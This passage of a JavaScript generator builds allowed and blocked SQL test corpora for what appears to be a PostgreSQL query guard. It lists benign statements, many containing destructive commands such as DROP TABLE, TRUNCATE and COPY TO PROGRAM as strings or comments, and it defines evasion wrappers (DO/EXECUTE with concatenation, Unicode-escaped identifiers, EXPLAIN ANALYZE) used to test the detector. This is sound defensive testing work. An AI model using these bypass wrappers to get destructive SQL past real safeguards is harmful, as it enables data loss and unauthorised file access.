  ['identifier', 'ddl', 'CREATE TABLE dropped_items (id bigint PRIMARY KEY, truncate_at timestamptz)', 'dropped_items'],
  ['identifier', 'ddl', 'ALTER TABLE orders ADD COLUMN drop_reason text', 'ALTER TABLE adding drop_reason'],
  // strings and comments mentioning dangerous things
  ['string-literal', 'select', "SELECT 'DROP TABLE orders'", 'in a string'],
  ['string-literal', 'select', "SELECT 'TRUNCATE secrets; DELETE FROM orders' AS sample", 'several in a string'],
  ['dollar-quoting', 'select', 'SELECT $$DROP SCHEMA billing CASCADE$$', 'dollar-quoted string'],
  ['string-literal', 'select', "SELECT E'DELETE FROM orders\\n'", 'escape string'],
  ['unicode-escape', 'select', "SELECT U&'\\0044ROP TABLE orders'", 'Unicode escape string'],
  [
    'string-literal',
    'dml',
    "INSERT INTO audit_messages(msg) VALUES ('DROP TABLE orders was refused')",
    'inserting the text',
  ],
  ['comment', 'select', 'SELECT 1 -- DROP TABLE orders', 'line comment'],
  ['comment', 'select', '/* TRUNCATE orders */ SELECT count(*) FROM orders', 'block comment'],
  ['comment', 'select', 'SELECT id FROM orders /* DELETE FROM orders */ WHERE id = 1', 'comment in the middle'],
  ['string-literal', 'select', "SELECT 'pg_read_file'", 'function name as text'],
  ['string-literal', 'select', "SELECT * FROM file_stats WHERE name = 'pg_ls_dir'", 'compared with text'],
  ['string-literal', 'select', "SELECT 'COPY orders TO PROGRAM ''x'''", 'COPY PROGRAM as text'],
  ['string-literal', 'select', "SELECT * FROM orders WHERE note ILIKE '%truncate%'", 'pattern'],
  ['string-literal', 'other', "NOTIFY order_events, 'DROP TABLE orders'", 'NOTIFY payload'],
  ['string-literal', 'ddl', "COMMENT ON TABLE orders IS 'Never DROP or TRUNCATE this table'", 'COMMENT text'],
  ['string-literal', 'select', "SELECT format('DROP TABLE %I', 'orders')", 'format() that is not executed'],
  ['string-literal', 'select', "SELECT 'x' || 'DROP TABLE orders'", 'concatenation that is not executed'],
  ['string-literal', 'select', "SELECT quote_ident('drop')", 'quote_ident'],
  ['string-literal', 'select', "SELECT lower('DROP TABLE orders')", 'lower()'],
  ['string-literal', 'select', "SELECT 'billing.invoices'::text", 'schema name in text'],
  ['string-literal', 'select', "SELECT 'secrets' AS table_name, count(*) FROM orders", 'relation name in text'],
  ['string-literal', 'select', "SELECT jsonb_path_query(doc, '$.drop') FROM docs", 'JSON path'],
  ['string-literal', 'select', `SELECT xmlelement(name "delete", 'x')`, 'XML element named delete'],
  // ordinary DML with a real row filter
  ['missing-where', 'dml', 'DELETE FROM sessions WHERE expires_at < now()', 'filter on a column'],
  ['missing-where', 'dml', 'DELETE FROM cart_items WHERE cart_id = $1', 'prepared statement parameter'],
  ['missing-where', 'dml', 'UPDATE accounts SET balance = balance - $1 WHERE id = $2', 'two parameters'],
  ['missing-where', 'dml', 'DELETE FROM events WHERE false', 'constant false'],
  ['missing-where', 'dml', 'UPDATE events SET a = 1 WHERE 1 = 0', 'constant false comparison'],
  ['missing-where', 'dml', 'DELETE FROM tokens WHERE expires_at < now() AND revoked', 'AND of columns'],
  ['missing-where', 'dml', 'UPDATE users SET last_seen = now() WHERE id = 7 AND true', 'x AND true'],
  ['missing-where', 'dml', 'DELETE FROM queue WHERE id IN (SELECT id FROM queue ORDER BY id LIMIT 100)', 'IN subquery'],
  ['missing-where', 'dml', 'DELETE FROM carts WHERE id = ANY($1::int[])', 'ANY array parameter'],
  ['missing-where', 'dml', 'UPDATE users SET flags = 0 WHERE id = 3 OR false', 'x OR false'],
  ['missing-where', 'dml', 'DELETE FROM events WHERE NULL', 'NULL filter'],
  ['missing-where', 'dml', "UPDATE orders SET status = 'cancelled' WHERE id = 1", 'only DELETE on orders is blocked'],
  ['missing-where', 'dml', 'INSERT INTO orders (customer_id, total) VALUES ($1, $2) RETURNING id', 'INSERT'],
  [
    'missing-where',
    'dml',
    "INSERT INTO orders (id, status) VALUES (1, 'new') ON CONFLICT (id) DO UPDATE SET status = EXCLUDED.status",
    'upsert',
  ],
  [
    'missing-where',
    'merge',
    'MERGE INTO stock s USING deliveries d ON s.item_id = d.item_id WHEN MATCHED THEN UPDATE SET qty = s.qty + d.qty WHEN NOT MATCHED THEN INSERT (item_id, qty) VALUES (d.item_id, d.qty)',
    'MERGE with a join condition',
  ],
  ['missing-where', 'dml', "INSERT INTO audit.log (actor, action) VALUES ('me', 'login')", 'appending to audit'],
  // functions that are fine
  ['function', 'select', 'SELECT now(), pg_catalog.now(), pg_catalog.current_database()', 'pg_catalog functions'],
  ['set-returning-function', 'select', 'SELECT * FROM generate_series(1, 10) AS g', 'SRF'],
  ['set-returning-function', 'select', "SELECT * FROM unnest(ARRAY['pg_read_file', 'dblink']) AS x", 'SRF over names'],
  ['function', 'select', "SELECT pg_size_pretty(pg_total_relation_size('orders'))", 'size functions'],
  ['function', 'select', "SELECT has_table_privilege('secrets', 'SELECT')", 'privilege check by name'],
  ['function', 'select', "SELECT * FROM information_schema.tables WHERE table_name = 'secrets'", 'catalog lookup'],
  ['function', 'select', "SELECT relname FROM pg_catalog.pg_class WHERE relname LIKE 'secret%'", 'pg_class lookup'],
  ['function', 'select', "SELECT set_config('application_name', 'reports', false)", 'set_config of another setting'],
  ['search-path', 'select', "SELECT set_config('search_path', 'public', true)", 'set_config(search_path) elsewhere'],
  ['function', 'select', 'SELECT lo_get(loid) FROM documents WHERE id = 1', 'lo_get is not listed'],
  ['function', 'select', 'SELECT current_user, session_user', 'session functions'],
  [
    'function',
    'select',
    "SELECT query_to_xml('SELECT id FROM orders', true, false, '')",
    'query_to_xml of a harmless query',
  ],
  ['function', 'select', "SELECT count(*) FILTER (WHERE status = 'dropped') FROM orders", 'FILTER'],
  ['parser-setting', 'ddl', 'SET standard_conforming_strings = on', 'the default'],
  ['parser-setting', 'ddl', "SET client_encoding TO 'UTF8'", 'UTF-8'],
  ['parser-setting', 'other', 'RESET standard_conforming_strings', 'back to the default'],
  [
    'indirect-call',
    'ddl',
    'CREATE OPERATOR === (LEFTARG = int4, RIGHTARG = int4, FUNCTION = int4eq)',
    'operator over a harmless function',
  ],
  [
    'copy',
    'other',
    "COPY order_imports FROM STDIN WITH (FORMAT csv, DELIMITER ';', NULL '', HEADER match)",
    'COPY options',
  ],
  // settings and session
  ['search-path', 'ddl', 'SET search_path TO "$user", public', 'default search_path'],
  ['search-path', 'ddl', 'SET search_path = public, extensions', 'other schemas'],
  ['kind', 'other', 'SHOW search_path', 'SHOW'],
  ['kind', 'ddl', "SET statement_timeout = '5s'", 'SET'],
  ['kind', 'other', 'RESET ALL', 'RESET'],
  ['kind', 'other', 'CALL refresh_reports()', 'CALL'],
  ['kind', 'other', 'LISTEN order_events', 'LISTEN'],
  ['kind', 'other', 'VACUUM ANALYZE orders', 'VACUUM'],
  ['kind', 'other', 'ANALYZE customers', 'ANALYZE'],
  // reading what is not protected
  ['relation', 'select', "SELECT * FROM audit.log WHERE ts > now() - interval '1 day'", 'reading audit'],
  ['relation', 'select', 'SELECT o.id, o.deleted_at FROM orders o WHERE o.deleted_at IS NULL', 'deleted_at column'],
  ['relation', 'select', 'SELECT id FROM orders ORDER BY created_at DESC LIMIT 10 OFFSET 20', 'pagination'],
  [
    'relation',
    'select',
    'SELECT * FROM orders o JOIN LATERAL (SELECT * FROM order_items i WHERE i.order_id = o.id LIMIT 3) x ON true',
    'LATERAL',
  ],
  ['relation', 'select', 'SELECT * FROM customers TABLESAMPLE SYSTEM (1)', 'TABLESAMPLE'],
  ['relation', 'ddl', 'CREATE INDEX CONCURRENTLY orders_status_idx ON orders (status)', 'CREATE INDEX'],
  [
    'relation',
    'ddl',
    'CREATE VIEW order_totals AS SELECT customer_id, sum(total) FROM orders GROUP BY customer_id',
    'CREATE VIEW',
  ],
  ['relation', 'ddl', 'CREATE TEMP TABLE scratch AS SELECT id FROM orders WHERE id < 10', 'CREATE TEMP TABLE AS'],
  ['relation', 'other', 'DECLARE c CURSOR FOR SELECT id FROM orders', 'cursor'],
  // COPY without PROGRAM
  ['copy', 'other', 'COPY orders TO STDOUT WITH (FORMAT csv, HEADER)', 'COPY to the client'],
  ['copy', 'other', 'COPY (SELECT id, total FROM orders) TO STDOUT', 'COPY (query) to the client'],
  ['copy', 'other', 'COPY order_imports FROM STDIN WITH CSV', 'COPY from the client'],
  // DO blocks and dynamic SQL that resolve to harmless statements
  ['do', 'other', "DO $$ BEGIN RAISE NOTICE 'DROP TABLE orders'; END $$", 'DROP only in a message'],
  ['do', 'other', 'DO $$ BEGIN PERFORM pg_sleep(0); END $$', 'PERFORM'],
  ['do', 'other', "DO $$ BEGIN EXECUTE 'SELECT 1'; END $$", 'constant EXECUTE'],
  [
    'do',
    'other',
    "DO $$ BEGIN EXECUTE format('UPDATE counters SET n = n + 1 WHERE id = %s', 1); END $$",
    'format() over constants',
  ],
  [
    'do',
    'other',
    "DO $$ DECLARE n int; BEGIN SELECT count(*) INTO n FROM orders; RAISE NOTICE '%', n; END $$",
    'SELECT INTO a variable',
  ],
  [
    'do',
    'other',
    "DO $$ BEGIN IF EXISTS (SELECT 1 FROM orders WHERE id = 1) THEN UPDATE orders SET status = 'seen' WHERE id = 1; END IF; END $$",
    'IF and UPDATE with WHERE',
  ],
  [
    'do',
    'other',
    "DO $$ BEGIN EXECUTE 'UPDATE ' || 'orders SET status = ''x'' WHERE id = 5'; END $$",
    'concatenated constant EXECUTE',
  ],
  [
    'do',
    'other',
    'DO $d$ BEGIN EXECUTE $x$INSERT INTO order_log(order_id) VALUES (1)$x$; END $d$',
    'tagged dollar quotes',
  ],
  // EXPLAIN, PREPARE, CTEs
  ['explain', 'other', 'EXPLAIN DELETE FROM orders', 'EXPLAIN without ANALYZE does not run it'],
  ['explain', 'other', 'EXPLAIN SELECT * FROM orders WHERE id = 1', 'EXPLAIN'],
  ['explain', 'other', 'EXPLAIN ANALYZE SELECT * FROM orders WHERE id = 1', 'EXPLAIN ANALYZE of a SELECT'],
  ['explain', 'other', 'EXPLAIN (ANALYZE false) DELETE FROM orders', 'ANALYZE explicitly off'],
  ['prepare', 'other', 'PREPARE get_order (int) AS SELECT * FROM orders WHERE id = $1', 'PREPARE a SELECT'],
  ['prepare', 'other', 'EXECUTE get_order(1)', 'EXECUTE a prepared statement'],
  ['prepare', 'other', 'DEALLOCATE get_order', 'DEALLOCATE'],
  [
    'prepare',
    'other',
    "PREPARE upd (int) AS UPDATE orders SET status = 'paid' WHERE id = $1",
    'PREPARE an UPDATE with WHERE',
  ],
  [
    'cte',
    'select',
    "WITH recent AS (SELECT * FROM orders WHERE created_at > now() - interval '1 day') SELECT count(*) FROM recent",
    'read-only CTE',
  ],
  [
    'cte',
    'select',
    "WITH u AS (UPDATE orders SET status = 'shipped' WHERE id = 3 RETURNING id) SELECT * FROM u",
    'CTE UPDATE with WHERE',
  ],
  [
    'cte',
    'select',
    'WITH ins AS (INSERT INTO order_log(order_id) VALUES (1) RETURNING *) SELECT * FROM ins',
    'CTE INSERT',
  ],
  // transactions and multi-statement strings
  [
    'multi-statement',
    'other',
    'BEGIN; UPDATE accounts SET balance = balance - 10 WHERE id = 1; UPDATE accounts SET balance = balance + 10 WHERE id = 2; COMMIT',
    'transfer',
  ],
  ['multi-statement', 'other', "SELECT 1; SELECT 2; SELECT 'DROP'", 'three SELECTs'],
  ['identifier', 'select', 'SELECT * FROM t1 NATURAL JOIN t2', 'plain join'],
  // look-alikes of the customers-no-rewrite and no-temp-functions bypasses
  [
    'upsert',
    'dml',
    "INSERT INTO customers (id, email) VALUES (3, 'c@example.com') ON CONFLICT DO NOTHING",
    'ON CONFLICT DO NOTHING only inserts',
  ],
  [
    'upsert',
    'dml',
    "INSERT INTO customer_events (customer_id, kind) VALUES (3, 'seen') ON CONFLICT (customer_id) DO UPDATE SET kind = excluded.kind",
    'upsert of listed rows into another table',
  ],
  [
    'routine-body',
    'ddl',
    'CREATE FUNCTION customer_count() RETURNS bigint LANGUAGE sql STABLE AS $f$ SELECT count(*) FROM customers $f$',
    'function body that only reads customers',
  ],
  [
    'routine-body',
    'ddl',
    'CREATE FUNCTION order_total(o_id int) RETURNS numeric LANGUAGE plpgsql AS $f$ DECLARE t numeric; BEGIN SELECT sum(total) INTO t FROM orders WHERE id = o_id; RETURN t; END $f$',
    'PL/pgSQL body that only reads orders',
  ],
  [
    'routine-body',
    'ddl',
    'CREATE FUNCTION add_one(a int) RETURNS int LANGUAGE sql IMMUTABLE RETURN a + 1',
    'RETURN expr',
  ],
  [
    'rule-actions',
    'ddl',
    'CREATE RULE log_insert AS ON INSERT TO orders DO ALSO INSERT INTO order_log (order_id) VALUES (NEW.id)',
    'CREATE RULE whose action only inserts a log row',
  ],
  ['relation', 'ddl', 'CREATE VIEW customer_emails AS SELECT id, email FROM customers', 'view reading customers'],
  ['user-function', 'select', 'SELECT pg_catalog.lower(name) FROM pg_temp.scratch', 'built-in over a temp table'],
  ['user-function', 'select', 'SELECT lower(email) FROM customers WHERE id = 1', 'built-in on customers'],
];

// ---------------------------------------------------------------------------------------------
// Obfuscations. Token-level ones use PostgreSQL's scanner, so they never touch string contents.
// ---------------------------------------------------------------------------------------------
function random(seed) {
  let state = seed >>> 0;
  return () => {
    state = (state + 0x6d2b79f5) >>> 0;
    let t = state;
    t = Math.imul(t ^ (t >>> 15), t | 1);
    t ^= t + Math.imul(t ^ (t >>> 7), t | 61);
    return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
  };
}
const rand = random(20251122);
const pick = (items) => items[Math.floor(rand() * items.length)];

/** Tokens with UTF-16 offsets. */
function tokens(sql) {
  const bytes = Buffer.from(sql, 'utf8');
  return scanSync(sql).tokens.map((token) => {
    const start = bytes.subarray(0, token.start).toString('utf8').length;
    const text = bytes.subarray(token.start, token.end).toString('utf8');
    return { start, end: start + text.length, text, name: token.tokenName, keyword: token.keywordKind > 0 };
  });
}

const isPlainIdentifier = (token) => token.name === 'IDENT' && !token.text.startsWith('"');
const isWord = (token) => token.keyword || isPlainIdentifier(token);

/** Rebuilds `sql` with `edit(token, index)` replacing each token and `gap(before, after)` between tokens. */
function rewrite(sql, edit, gap) {
  const list = tokens(sql);
  let out = sql.slice(0, list[0]?.start ?? sql.length);
  list.forEach((token, index) => {
    out += edit(token, index);
    const next = list[index + 1];
    const between = sql.slice(token.end, next ? next.start : sql.length);
    out += next ? gap(between, token, next) : between;
  });
  return out;
}

const mixCase = (text) => [...text].map((char) => (rand() < 0.5 ? char.toUpperCase() : char.toLowerCase())).join('');

const obfuscations = {
  casing: (sql) =>
    rewrite(
      sql,
      (token) => (isWord(token) ? mixCase(token.text) : token.text),
      (gap) => gap,
    ),
  comment: (sql) => {
    const decoys = [
      '/* DROP TABLE orders */',
      '/**/',
      '/* ; TRUNCATE secrets; */',
      '-- DELETE FROM orders\n',
      '/* nested /* comment */ */',
    ];
    let inserted = 0;
    const out = rewrite(
      sql,
      (token) => token.text,
      (gap) => (rand() < 0.35 && inserted++ < 4 ? ` ${pick(decoys)} ` : gap),
    );
    return inserted > 0 ? out : `/* SELECT 1 */ ${sql}`;
  },
  whitespace: (sql) =>
    rewrite(
      sql,
      (token) => token.text,
      (gap, before, after) =>
        before.name === 'SCONST' && after.name === 'SCONST'
          ? gap
          : pick(['\n', '\t', '  ', '\r\n', ' \n\t ', gap || ' ']),
    ),
  quoting: (sql) =>
    rewrite(
      sql,
      (token) => (isPlainIdentifier(token) ? `"${token.text.toLowerCase()}"` : token.text),
      (gap) => gap,
    ),
  'unicode-escape': (sql) =>
    rewrite(
      sql,
      (token) =>
        isPlainIdentifier(token)
          ? `U&"${[...token.text.toLowerCase()].map((char, i) => (i % 2 === 0 ? `\\${char.codePointAt(0).toString(16).padStart(4, '0')}` : char)).join('')}"`
          : token.text,
      (gap) => gap,
    ),
};

// Wrappers: statement → another statement that runs it.
const literal = (text) => `'${text.replace(/'/g, "''")}'`;
const dollarTag = (text, base) => {
  for (let i = 0; ; i += 1) {
    const tag = i === 0 ? `$${base}$` : `$${base || 'd'}${i}$`;
    if (!text.includes(tag)) return tag;
  }
};
const doBlock = (body) => {
  const tag = dollarTag(body, '');
  return `DO ${tag} BEGIN ${body} END ${tag}`;
};
const split = (text) => {
  const at = 1 + Math.floor(rand() * (text.length - 2));
  return [text.slice(0, at), text.slice(at)];
};
let prepared = 0;

const wrappers = {
  'do-execute': { applies: () => true, wrap: (sql) => doBlock(`EXECUTE ${literal(sql)};`) },
  'do-execute-concat': {
    applies: () => true,
    wrap: (sql) => doBlock(`EXECUTE ${split(sql).map(literal).join(' || ')};`),
  },
  'do-execute-format': {
    applies: () => true,
    wrap: (sql) => {
      const [a, b] = split(sql);
      return doBlock(`EXECUTE format('%s%s', ${literal(a)}, ${literal(b)});`);
    },
  },
  'dollar-quoting': {
    applies: () => true,
    wrap: (sql) => {
      const inner = dollarTag(sql, 'q');
      const outer = dollarTag(sql + inner, 'body');
      return `DO ${outer}\nBEGIN\n  EXECUTE ${inner}${sql}${inner};\nEND\n${outer}`;
    },
  },
  'do-block': {
    applies: (kind, sql) =>
      ['dml', 'ddl', 'merge', 'select'].includes(kind) && !sql.includes('$1') && !/^SELECT .* INTO /i.test(sql),
    wrap: (sql, kind) => doBlock(`${kind === 'select' ? sql.replace(/^SELECT/i, 'PERFORM') : sql};`),
  },
  cte: {
    applies: (kind, sql) => kind === 'dml' && !/RETURNING/i.test(sql) && !/^WITH/i.test(sql),
    wrap: (sql) => `WITH x AS (${sql} RETURNING 1) SELECT count(*) FROM x`,
  },
  prepare: {
    applies: (kind) => ['dml', 'select', 'merge'].includes(kind),
    wrap: (sql) => `PREPARE p${++prepared} AS ${sql}`,
  },
  'explain-analyze': {
    applies: (kind) => ['dml', 'select', 'merge'].includes(kind),
    wrap: (sql) =>
      pick([
        `EXPLAIN ANALYZE ${sql}`,
        `EXPLAIN (ANALYZE, BUFFERS) ${sql}`,
        `EXPLAIN (ANALYZE true, FORMAT json) ${sql}`,
      ]),
  },
  'multi-statement': {
    applies: () => true,
    wrap: (sql) => pick([`SELECT 1; ${sql}`, `${sql}; SELECT 2`, `SET application_name = 'x';\n${sql};\nSELECT now()`]),
  },
  'function-argument': {
    applies: (kind) => ['dml', 'select'].includes(kind),
    wrap: (sql) => `SELECT query_to_xml(${literal(sql)}, true, false, '')`,
  },
};

// ---------------------------------------------------------------------------------------------
// Validation and output
// ---------------------------------------------------------------------------------------------
function checkValid(sql) {
  const statements = parseSync(sql).stmts;
  for (const { stmt } of statements) {
    const body = stmt.DoStmt?.args?.find((arg) => arg.DefElem.defname === 'as')?.DefElem.arg.String.sval;
    const language = stmt.DoStmt?.args?.find((arg) => arg.DefElem.defname === 'language')?.DefElem.arg.String.sval;
    if (body !== undefined && (language ?? 'plpgsql') === 'plpgsql') {
      parsePlPgSQLSync(`DO ${dollarTag(body, 'check')}${body}${dollarTag(body, 'check')}`);
    }
  }
}

function build(bases, expectedRule, counts) {
  const lines = [];
  const seen = new Set();
  const add = (entry) => {
    if (seen.has(entry.sql)) return;
    if (entry.class !== 'invalid') {
      try {
        checkValid(entry.sql);
      } catch (error) {
        throw new Error(`generated invalid SQL (${entry.class}): ${entry.sql}\n${error.message}`);
      }
    }
    seen.add(entry.sql);
    lines.push(entry);
  };
  for (const base of bases) add({ sql: base.sql, class: base.class, note: base.note, ...expectedRule(base) });
  for (const [name, share] of Object.entries(counts.obfuscations)) {
    for (const base of bases.filter(() => rand() < share)) {
      const sql = obfuscations[name](base.sql);
      if (sql !== base.sql) add({ sql, class: name, note: `${base.note} (${name})`, ...expectedRule(base) });
    }
  }
  for (const [name, share] of Object.entries(counts.wrappers)) {
    const wrapper = wrappers[name];
    for (const base of bases.filter((b) => wrapper.applies(b.kind, b.sql) && rand() < share)) {
      add({
        sql: wrapper.wrap(base.sql, base.kind),
        class: name,
        note: `${base.note} (${name})`,
        ...expectedRule(base),
      });
    }
  }
  return lines;
}

const blockedBases = BLOCKED.map(([rule, cls, kind, sql, note]) => ({ rule, class: cls, kind, sql, note }));
const allowedBases = ALLOWED.map(([cls, kind, sql, note]) => ({ class: cls, kind, sql, note }));

const blocked = [
  ...build(blockedBases, (base) => ({ rule: base.rule }), {
    obfuscations: { casing: 0.3, comment: 0.3, whitespace: 0.25, quoting: 0.25, 'unicode-escape': 0.2 },
    wrappers: {
      'do-execute': 0.2,
      'do-execute-concat': 0.15,
      'do-execute-format': 0.1,
      'dollar-quoting': 0.1,
      'do-block': 0.2,
      cte: 0.3,
      prepare: 0.2,
      'explain-analyze': 0.2,
      'multi-statement': 0.2,
      'function-argument': 0.1,
    },
  }),
  ...INVALID.map(([sql, note]) => ({ sql, class: 'invalid', note, action: 'invalid' })),
];

const allowed = build(allowedBases, () => ({}), {
  obfuscations: { casing: 0.35, comment: 0.35, whitespace: 0.3, quoting: 0.3, 'unicode-escape': 0.25 },
  wrappers: {
    'do-execute': 0.15,
    'dollar-quoting': 0.1,
    'do-block': 0.1,
    prepare: 0.2,
    'explain-analyze': 0.2,
    'multi-statement': 0.15,
  },
});

const jsonl = (entries) => entries.map((entry) => JSON.stringify(entry)).join('\n') + '\n';
writeFileSync(join(here, 'blocked.jsonl'), jsonl(blocked));
writeFileSync(join(here, 'allowed.jsonl'), jsonl(allowed));
process.stdout.write(`blocked.jsonl: ${blocked.length} lines, allowed.jsonl: ${allowed.length} lines\n`);
